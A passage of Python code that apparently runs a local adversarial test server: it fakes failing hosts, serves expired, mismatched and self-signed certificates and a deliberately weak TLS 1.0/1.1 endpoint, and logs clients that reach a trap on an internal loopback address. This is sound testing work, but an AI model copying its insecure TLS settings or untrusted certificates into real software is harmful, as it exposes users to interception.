DOORS = {"dns-unknown.example": None, "connection-refused.example": "80:closed", "full-backlog.example": "80:full", "tls-silent.example": "443:mute",
         "tls-plain.example": "443:plain", "tls-old.example": "443:old"}

# Shake hands in their own ways, or not at all.
STRANGE_TLS = {"tls-expired.example": "expired", "tls-wrong-host.example": "wrong", "tls-unknown-issuer.example": "unknown",
               "tls-self-signed.example": "self"}


class Evil:
    def __init__(self, state, log):
        self.state, self.lock, self.stop, self.ports = state, threading.Lock(), threading.Event(), {}
        self.log = open(log, "a", buffering=1, encoding="utf-8") if log else None
        self.by_host = {a.host: a for a in ATTACKS}

    def note(self, **entry):
        with self.lock:
            if self.log:
                self.log.write(json.dumps(dict(entry, t=round(time.time(), 4)), ensure_ascii=False) + "\n")

    def answer(self, sock, scheme, request):
        c = Call(self, sock, scheme, *request)
        a = self.by_host.get(c.host)
        self.note(scheme=scheme, host=c.host, method=c.method, target=c.target, headers=c.headers, status=0)
        if a is None or (c.target == "/robots.txt" and a.name != "robots-redirect"):
            c.reply("none", status="404 Not Found")
            return False
        return a.answer(c)

    def serve(self, sock, scheme, context):
        try:
            if context:
                sock = context.wrap_socket(sock, server_side=True)
            f = sock.makefile("rb")
            while True:
                request = decent.read_request(f)
                if request is None or not self.answer(sock, scheme, request):
                    break
        except (OSError, ValueError):
            pass
        finally:
            sock.close()

    def serve_plain(self, sock):
        """HTTP, to whatever was said."""
        try:
            sock.recv(4096)
            Call(self, sock, "http", "", "", {}).reply("speak HTTP", status="400 Bad Request")
        except OSError:
            pass
        sock.close()

    def spring(self, sock):
        """Somebody came where nobody may go."""
        first = b""
        try:
            sock.settimeout(2)
            first = sock.recv(200)
            sock.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n\r\n" + article("inside").encode())
        except OSError:
            pass
        sock.close()
        self.note(host="trap", scheme="", method="", target=first.decode("latin-1").split("\r")[0], headers={}, status=200)


def listener(address, port, handle, family=socket.AF_INET):
    s = socket.socket(family)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((address, port))
    s.listen(256)

    def loop():
        while True:
            c, _ = s.accept()
            threading.Thread(target=handle, args=(c,), daemon=True).start()
    threading.Thread(target=loop, daemon=True).start()
    return s.getsockname()[1]


def full():
    """A port whose queue is full: what comes is neither taken nor refused."""
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    s.listen(0)
    kept = [s]
    for _ in range(4):
        c = socket.socket()
        c.setblocking(False)
        c.connect_ex(s.getsockname())
        kept.append(c)
    return kept, s.getsockname()[1]


def closed():
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    return [s], s.getsockname()[1]


def strange_contexts(state):
    """Certificates that must not be trusted, one context each."""
    def run(*a):
        subprocess.run(("openssl",) + a, check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, cwd=state)
    contexts = {}
    run("req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "30", "-subj", "/CN=nobody's CA", "-keyout", "nobody.key", "-out", "nobody.pem")
    for host, way in STRANGE_TLS.items():
        ca = "nobody" if way == "unknown" else "ca"
        name = "good.example" if way == "wrong" else host
        open(os.path.join(state, way + ".ext"), "w").write("basicConstraints=CA:FALSE\nsubjectAltName=DNS:" + name)
        if way == "self":
            run("req", "-x509", "-key", "key.pem", "-days", "30", "-subj", "/CN=" + name, "-addext", "subjectAltName=DNS:" + name, "-out", way + ".pem")
        else:
            run("x509", "-req", "-in", "csr.pem", "-CA", ca + ".pem", "-CAkey", ca + ".key", "-CAcreateserial", "-days", "-1" if way == "expired" else "30",
                "-extfile", way + ".ext", "-out", way + ".pem")
        contexts[host] = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        contexts[host].load_cert_chain(os.path.join(state, way + ".pem"), os.path.join(state, "key.pem"))
    return contexts


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--root")
    p.add_argument("--state")
    p.add_argument("--log")
    p.add_argument("--list")
    p.add_argument("--hosts", action="store_true")
    p.add_argument("--names", action="store_true", help="what names.so is told")
    a = p.parse_args()
    if a.list:
        print("\n".join("\t".join((x.name, x.url, x.outcome, x.reason, x.cited)) for x in ATTACKS if x.group == a.list))
        return
    if a.hosts:
        print("\n".join(x.host for x in ATTACKS if x.host not in DOORS and x.group != "rebinding"))
        return
    if a.names:
        print(NAMES)
        return
    evil = Evil(a.state, a.log)
    warnings.simplefilter("ignore")  # TLS 1.1 is old: that is what it is for
    context = decent.certificates(a.state, [x.host for x in ATTACKS])
    strange = strange_contexts(a.state)

    def choose(sock, name, _):
        sock.context = strange.get(name, context)
    context.sni_callback = choose
    evil.ports["trap"] = listener("127.0.0.2", 0, evil.spring)
    for address, family in (("127.0.0.1", socket.AF_INET), ("::1", socket.AF_INET6)):
        try:
            listener(address, evil.ports["trap"], evil.spring, family)
        except OSError:
            pass
    kept, evil.ports["full"] = full()
    kept2, evil.ports["closed"] = closed()
    evil.ports["mute"] = listener("127.0.0.1", 0, lambda sock: evil.stop.wait(PATIENCE))
    old = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    old.load_cert_chain(os.path.join(a.state, "crt.pem"), os.path.join(a.state, "key.pem"))
    old.set_ciphers("DEFAULT:@SECLEVEL=0")
    old.minimum_version, old.maximum_version = ssl.TLSVersion.TLSv1, ssl.TLSVersion.TLSv1_1
    evil.ports["old"] = listener("127.0.0.1", 0, lambda sock: evil.serve(sock, "https", old))
    evil.ports["plain"] = listener("127.0.0.1", 0, lambda sock: evil.serve_plain(sock))
    http = listener("127.0.0.1", 0, lambda sock: evil.serve(sock, "http", None))
    https = listener("127.0.0.1", 0, lambda sock: evil.serve(sock, "https", context))
    evil.ports.update(http=http, https=https)
    listener("127.0.0.2", http, evil.spring)
    with open(os.path.join(a.state, "doors"), "w", encoding="ascii") as f:
        f.writelines("%s:%s:127.0.0.1:%d\n" % (host, door.split(":")[0], evil.ports[door.split(":")[1]]) for host, door in DOORS.items() if door)
    with open(os.path.join(a.state, "ports"), "w", encoding="ascii") as f:
        f.writelines("%s %d\n" % item for item in evil.ports.items())
    print("READY http=%d https=%d ca=%s" % (http, https, os.path.join(a.state, "ca.pem")), flush=True)
    while True:
        signal.pause()


if __name__ == "__main__":
    main()
